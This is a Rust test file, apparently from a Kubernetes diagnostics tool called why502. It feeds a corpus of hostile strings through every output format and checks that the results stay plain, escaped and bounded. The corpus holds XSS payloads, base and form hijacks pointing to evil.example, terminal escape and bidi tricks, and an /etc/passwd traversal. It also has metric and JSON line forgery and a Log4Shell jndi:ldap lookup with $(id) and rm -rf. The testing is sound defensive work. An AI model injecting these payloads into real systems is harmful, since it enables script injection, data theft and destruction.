//! Strings of processes, containers and requests at every place where why502 says something: one corpus, one test for each of them.
//! The pages with it are loaded by a browser in `served.rs`, and read in `page.rs`.

use crate::page_samples::recorded;
use crate::samples;
use serde_json::Value;
use why502::metrics::Tally;
use why502::metrics::text::Text;
use why502::model::incident::{Advice, Pod};
use why502::model::{Event, Incident, Input, Output, Stop};
use why502::sinks::events::Events;
use why502::sinks::recording::{Reader, Writer};
use why502::sinks::text::{self, Paint};
use why502::sinks::trace::{self, Context};
use why502::sinks::{json, otlp};

/// What somebody might write into a comm, an argument, a path or a name.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "</title></style></svg><script>alert(1)</script>",
    "\" onfocus=alert(1) autofocus=\"",
    "`${alert(1)}`",
    "{{7*7}} <%= 7*7 %> &lt;b&gt; &#x3c;script&#x3e;",
    "--><!-- ]]> <![CDATA[",
    "\u{202e}gpj.exe\u{0}\u{1b}[31m\r\n\t\u{2028}\u{feff}",
    "\u{ff1c}script\u{ff1e}",
    "a\" style=\"position:fixed;inset:0\" x=\"",
    "../../../etc/passwd?x=1&y=2#z",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>",
    "\u{1b}]0;owned\u{7}\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m\u{90}q\u{9c}\u{85}\u{8d}",
    "a\u{200b}\u{200d}\u{2060}b\u{2066}c\u{2069}\u{e0041}",
    // Bytes that are no UTF-8, as decoding leaves them.
    "\u{fffd}\u{fffd}nginx",
    "a\"} 1\nwhy502_ready 0\n# HELP why502_ready x",
    "\",\"cause\":\"forged\"}\n{\"type\":\"incident\"}\n\nid: 1\ndata: x",
    "${jndi:ldap://evil.example/a} $(id) `id` %n%s%x; rm -rf \\",
    "\\u{202e} \\x1b[2J \\n",
    "e\u{301}\u{302}\u{303}\u{304} \u{1f468}\u{200d}\u{1f469}",
];

/// All of them, and one that is very long.
pub(crate) fn corpus() -> Vec<String> {
    HOSTILE.iter().map(|text| (*text).to_owned()).chain(["<i>\u{1b}é".repeat(5_000)]).collect()
}

/// Every string that somebody else may have a say in is `text`.
pub(crate) fn hostile(text: &str) -> (Stop, Vec<Incident>) {
    let t = || text.to_string();
    let (mut stops, mut incidents) = recorded("containerd-prestop-failed");
    let mut stop = stops.remove(0);
    let advice = |a: &mut Advice| {
        (a.id, a.kind, a.target, a.change, a.why) = (t(), t(), t(), t(), t());
        (a.unit, a.needs) = (Some(t()), vec![t()]);
    };
    (stop.id, stop.node, stop.server, stop.signal) = (t(), t(), t(), Some(t()));
    if let Some(pod) = &mut stop.pod {
        (pod.namespace, pod.name, pod.workload) = (Some(t()), Some(t()), Some(t()));
    }
    if let Some(container) = &mut stop.container {
        (container.id, container.name, container.runtime) = (t(), Some(t()), Some(t()));
    }
    for phase in &mut stop.phases {
        phase.text = t();
        if phase.name == "exit" {
            phase.name = t();
            phase.event = None;
        }
    }
    for sent in &mut stop.timeline.signals {
        (sent.from.process.comm, sent.to.process.comm, sent.signal) = (t(), t(), t());
        (sent.from.process.role, sent.to.process.role) = (None, None);
    }
    for ended in &mut stop.timeline.exits {
        (ended.who.process.comm, ended.how, ended.who.process.role) = (t(), t(), None);
    }
    stop.by_cause.insert(t(), 1);
    stop.advice.iter_mut().for_each(advice);
    for i in &mut incidents {
        (i.id, i.node, i.summary, i.server.path, i.sub_cause) = (t(), t(), t(), Some(t()), Some(t()));
        i.stop = Some(t());
        (i.pod, i.container) = (stop.pod.clone(), stop.container.clone());
        i.confidence.lowered_by = vec![t()];
        (i.requester.kind, i.response.source, i.response.status) = (t(), t(), Some(500));
        (i.loss.in_window, i.loss.by_hook) = (1, [(t(), 1)].into());
        i.chain.iter_mut().for_each(|link| (link.id, link.text) = (t(), t()));
        i.missing.iter_mut().for_each(|m| (m.fact, m.effect) = (t(), t()));
        i.advice.iter_mut().for_each(advice);
    }
    (stop, incidents)
}

/// Nothing in it acts on a terminal, turns around, or hides; `\n` ends lines that are meant.
fn is_plain(shown: &str) -> bool {
    let acts = |c: char| {
        (c.is_control() && c != '\n')
            || ('\u{200b}'..='\u{200f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2060}'..='\u{206f}').contains(&c)
            || matches!(c, '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    !shown.contains(acts)
}

fn outputs(text: &str) -> Vec<Output> {
    let (stop, incidents) = hostile(text);
    let incidents = incidents.into_iter().map(|i| Output::Incident(Box::new(i)));
    incidents.chain([Output::Stop(Box::new(stop))]).collect()
}

/// An event in which every string of a process is `text`.
fn of_process(event: &Event, text: &str) -> Event {
    fn replace(value: &mut Value, text: &str) {
        match value {
            Value::Object(fields) => {
                for (name, value) in fields {
                    let theirs = matches!(name.as_str(), "comm" | "path" | "format") && value.is_string();
                    if theirs {
                        *value = text.into();
                    } else if name == "argv" {
                        *value = vec![text].into();
                    } else {
                        replace(value, text);
                    }
                }
            }
            Value::Array(all) => all.iter_mut().for_each(|value| replace(value, text)),
            _ => {}
        }
    }
    let mut value = serde_json::to_value(event).unwrap();
    replace(&mut value, text);
    serde_json::from_value(value).unwrap()
}

#[test]
fn on_a_terminal_it_is_text() {
    for text in corpus() {
        for output in outputs(&text) {
            let plain = text::output(&output, Paint { on: false });
            assert!(is_plain(&plain), "{text:?}: {plain:?}");
            // Colours are why502's own: without them it is the same.
            let painted = text::output(&output, Paint { on: true });
            let mut parts = painted.split("\u{1b}[");
            let first = parts.next().unwrap().to_owned();
            let bare = parts.fold(first, |all, part| all + part.split_once('m').unwrap().1);
            assert_eq!(bare, plain, "{text:?}");
        }
        for event in samples::events() {
            let event = of_process(&event, &text);
            let line = trace::line(&event, Context { time: "t", place: &text, ..Context::default() });
            assert!(is_plain(&line) && !line.contains('\n'), "{text:?}: {line:?}");
        }
    }
}

#[test]
fn in_json_it_is_the_same_text_on_one_line() {
    for text in corpus() {
        for output in outputs(&text) {
            let line = json::output(&output).unwrap();
            assert!(!line.contains(|c: char| c < ' '), "{line:?}");
            assert_eq!(json::output(&json::parse(&line).unwrap()).unwrap(), line);
            let value: Value = serde_json::from_str(&line).unwrap();
            assert_eq!(value["id"], text.as_str(), "nothing of it became a field");
        }
    }
}

#[test]
fn in_metrics_it_stays_inside_its_label() {
    let mut tally = Tally::default();
    let corpus = corpus();
    corpus.iter().flat_map(|text| outputs(text)).for_each(|output| tally.output(&output));
    let mut page = Text::default();
    tally.write(&mut page);
    let page = page.finish();
    assert!(is_plain(&page), "{page:?}");
    let fine = |line: &str| {
        let labels = line.find('{').map_or("", |at| &line[at..]);
        let quotes = labels.replace("\\\\", "").replace("\\\"", "").matches('"').count();
        (line.starts_with("# ") || line.starts_with("why502_")) && quotes.is_multiple_of(2) && line.len() < 2_000
    };
    assert!(page.lines().all(fine), "{page}");
    assert!(page.contains("alert(1)"));
}

#[test]
fn in_an_event_of_kubernetes_it_is_text_and_short() {
    for text in corpus() {
        let mut events = Events::default();
        outputs(&text).iter().for_each(|output| events.output(output, 1));
        assert!(events.due(u64::MAX / 2).is_empty(), "{text:?}: the API has no such name");
        let mut events = Events::default();
        let named = |pod: &mut Option<Pod>| {
            let (namespace, name) = (Some("shop".into()), Some("web-1".into()));
            *pod = Some(Pod { namespace, name, uid: "1".into(), workload: Some(format!("Deployment/{text}")) });
        };
        for mut output in outputs(&text) {
            match &mut output {
                Output::Incident(i) => named(&mut i.pod),
                Output::Stop(s) => named(&mut s.pod),
            }
            events.output(&output, 1);
        }
        let told = events.due(u64::MAX / 2);
        assert!(!told.is_empty() && told.iter().all(|told| told.about.kind == "Pod"));
        for told in told {
            assert!(is_plain(&told.note) && !told.note.contains('\n'), "{text:?}: {:?}", told.note);
            assert!(told.note.len() <= 1_024, "{}", told.note.len());
            assert!(
                told.name.len() <= 253 && told.name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-.".contains(&b))
            );
            assert!(told.reason.chars().all(|c| c.is_ascii_alphanumeric()), "{:?}", told.reason);
        }
    }
}

#[test]
fn in_otlp_it_is_a_value_and_bounded() {
    for text in corpus() {
        for output in outputs(&text) {
            let entry = otlp::entry(&output);
            let size = format!("{:?}", entry.record).len();
            assert!(size < 200_000, "{text:.40}: {size}");
            let ours = |key: &str| key.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b));
            assert!(entry.record.attributes.iter().all(|pair| ours(&pair.key)), "no text of theirs is a name");
        }
    }
}

#[test]
fn in_a_recording_it_comes_back_as_it_was() {
    for text in corpus() {
        let events = samples::events().into_iter().map(|event| Input::Event(of_process(&event, &text)));
        let (start, end) = (Input::Started(samples::started()), Input::Stopped { at: 999_000_000_000 });
        let inputs: Vec<Input> = std::iter::once(start).chain(events).chain([end]).collect();
        let mut bytes = Vec::new();
        let mut writer = Writer::new(&mut bytes).unwrap();
        inputs.iter().for_each(|input| writer.write(input).unwrap());
        drop(writer);
        let read: Vec<Input> = Reader::new(&*bytes).unwrap().map(Result::unwrap).collect();
        assert_eq!(read, inputs, "{text:.40}");
    }
}
